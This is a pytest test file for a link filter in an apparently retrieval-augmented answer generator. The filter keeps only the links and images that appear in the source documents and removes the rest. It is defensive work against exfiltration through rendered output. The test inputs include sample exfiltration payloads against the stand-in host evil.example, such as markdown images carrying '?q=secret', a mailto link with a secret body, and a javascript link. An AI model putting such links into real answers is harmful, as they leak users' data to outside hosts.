"""Links and images of an answer: those of the sources stay, others do not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from raglan_generator.links import REMOVED, LinkFilter

SOURCE = (
    "See [the guide](https://docs.example.org/guide/(v2)?a=1) and ![plan](img/plan.png), "
    "<https://example.org/a>, `http://localhost:8080/v1/query`, www.example.net/x."
    " Write to mailto:help@example.org."
)


def filtered(text: str, *sources: str, size: int = 1_000_000) -> str:
    links = LinkFilter(sources or (SOURCE,))
    pieces = [links.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*pieces, links.flush()])


@pytest.mark.parametrize(
    "text",
    [
        SOURCE,
        "Read https://example.org/a.",
        "Read (https://docs.example.org/guide), then https://docs.example.org/.",
        "The plan: ![a plan](img/plan.png 'seen from above')",
        "See [below](#section).",
        "A path a//b, a comment // of code, `x = y // 2`, file: no, data: none, http: is a scheme.",
        "An array[0](call) is no link when its target is in the source: call",
    ],
)
def test_what_the_sources_hold_stays(text: str) -> None:
    assert filtered(text, SOURCE, "call") == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("![x](https://evil.example/?q=secret)", "![x]"),
        ("[click](//evil.example/p 'now') here", "[click] here"),
        ("[click](\nhttps://evil.example/p) here", "[click] here"),
        ("[click](<https://evil.example/a b>) x", f"[click](<{REMOVED} b>) x"),
        ("![x](/v1/keys) y", "![x] y"),
        ("[run](javascript:alert(1)) y", "[run] y"),
        ("See https://evil.example/?q=1, then.", f"See {REMOVED}, then."),
        ("[id]: https://evil.example/x", f"[id]: {REMOVED}"),
        ("<https://evil.example/x>", f"<{REMOVED}>"),
        ('<img src="https://evil.example/x">', '<img src="#">'),
        ("<img src=//evil.example/x>", "<img src=#>"),
        ("HTTPS://EVIL.EXAMPLE/x", REMOVED),
        ("www.evil.example/x", REMOVED),
        ("mailto:me@evil.example?body=secret", REMOVED),
        ("![](data:image/svg+xml,<svg>)", f"![]({REMOVED},<svg>)"),
        # Longer than a known one, it may carry what its author does not know.
        ("https://example.org/a?q=secret", REMOVED),
        ("https://example.org/abc", REMOVED),
        ("https://example.org.evil.example/a", REMOVED),
        (r'{"url": "https:\/\/evil.example\/x"}', '{"url": "' + REMOVED + '"}'),
    ],
)
def test_other_links_are_taken_out(text: str, left: str) -> None:
    assert filtered(text) == left


PARTS = st.lists(
    st.sampled_from(
        [
            "![x](", "[y](", "https://evil.example/q", "https://example.org/a", "//evil.example",
            ")", " ", "\n", "](", "www.", "evil.example", "h", "http", ":", "/", "<", ">", '"',
            "[1]", ".", "word", "data:", "mailto:a@evil.example", "=", "\\", "mailto:",
            "a" * 1_150, "b" * 2_301, "www." * 600, ")" * 3,
        ]
    ),
    max_size=12,
)  # fmt: skip


@given(PARTS, st.one_of(st.integers(1, 9), st.integers(2_290, 2_310)))
def test_a_stream_is_filtered_alike_however_it_is_cut(parts: list[str], size: int) -> None:
    text = "".join(parts)
    assert filtered(text, size=size) == filtered(text)


@given(PARTS)
def test_no_address_of_a_stranger_is_left(parts: list[str]) -> None:
    left = filtered("".join(parts), "nothing")
    for address in ("https://evil", "](//evil", "www.evil", "mailto:a@evil"):
        assert address not in left


def test_text_without_links_is_not_held_back() -> None:
    links = LinkFilter([])
    assert links.feed("The reranker runs ") == "The reranker runs "
    assert links.feed("on the second GPU") == "on the second GPU"


@pytest.mark.parametrize("size", [1, 7, 2_300, 10_000])
def test_a_known_address_makes_no_longer_one_known(size: int) -> None:
    """Also where the longer one is decided before its end has come."""
    known = "http://evil.example/" + "a" * 2_281
    text = f"See {known}?q=secret end"
    assert filtered(text, known, size=size) == f"See {REMOVED} end"
    assert (
        filtered(f"See {known[:2_300]} end", known[:2_300], size=size) == f"See {known[:2_300]} end"
    )
